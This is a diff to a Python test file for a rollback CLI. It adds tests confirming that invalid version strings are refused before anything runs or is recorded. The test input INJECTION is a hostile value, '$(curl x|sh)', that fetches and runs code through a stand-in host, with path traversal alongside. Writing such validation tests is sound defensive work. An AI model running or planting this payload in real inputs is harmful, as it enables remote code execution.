@@ -8,6 +8,8 @@ import subprocess
 import sys
 from pathlib import Path
 
+import yaml
+
 from rollback.models import Phase
 from tests.conftest import write_config
 from tests.helpers import front_version, orchestrator, status_when
@@ -98,3 +100,37 @@ async def test_bad_input_gives_one_line_and_exit_code(client, task_queue, tmp_pa
     nowhere = subprocess.run([ROLLBACK, "list"], capture_output=True, text=True, timeout=60,
                              env={**os.environ, "TEMPORAL_ADDRESS": "127.0.0.1:1"})
     assert "cannot reach Temporal at 127.0.0.1:1" in one_line_error(nowhere)
+
+
+INJECTION = "--help; $(curl x|sh) ../../etc"
+
+
+def cli_env(**extra: str) -> dict[str, str]:
+    """The environment with nothing pointing at Temporal or a config unless given."""
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("TEMPORAL_", "ROLLBACK_"))}
+    return {**env, "COLUMNS": "300", **extra}
+
+
+def run_cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
+    return subprocess.run([ROLLBACK, *args], capture_output=True, text=True, env=env, timeout=120)
+
+
+def test_a_version_that_is_not_a_version_is_refused_before_anything_runs():
+    # No Temporal at this address: the request must be refused before any connection.
+    env = cli_env(TEMPORAL_ADDRESS="127.0.0.1:1")
+    started = run_cli("start", "-e", "demo", "-t", "backend", "--to-version", f"backend={INJECTION}", env=env)
+    line = one_line_error(started)
+    assert line.startswith("error: to_version.backend: ") and "not a valid version" in line
+
+
+def test_record_deploy_refuses_a_bad_version_and_records_nothing(blue_green, tmp_path):
+    config = blue_green.write_config(tmp_path / "rollback.yaml")
+    state = blue_green.state_dir / "demo.json"
+    before = state.read_text()
+
+    refused = run_cli("record-deploy", "-e", "demo", "-t", "backend", "--version", INJECTION,
+                      env=cli_env(ROLLBACK_CONFIG=str(config)))
+
+    line = one_line_error(refused)
+    assert line.startswith("error: --version: ") and "not a valid version" in line
+    assert state.read_text() == before
